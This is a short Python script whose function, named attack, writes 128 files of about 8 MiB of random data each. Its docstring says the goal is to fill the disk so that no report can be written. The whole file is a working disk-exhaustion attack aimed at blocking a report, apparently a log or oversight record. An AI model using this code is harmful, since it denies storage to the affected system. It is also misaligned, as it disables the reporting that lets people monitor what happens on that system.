"""Fills the disk with files, so that no report can be written."""

import os


def attack():
    for number in range(128):
        with open(f"filler_{number}", "wb") as file:
            file.write(os.urandom(2**20) * 8)
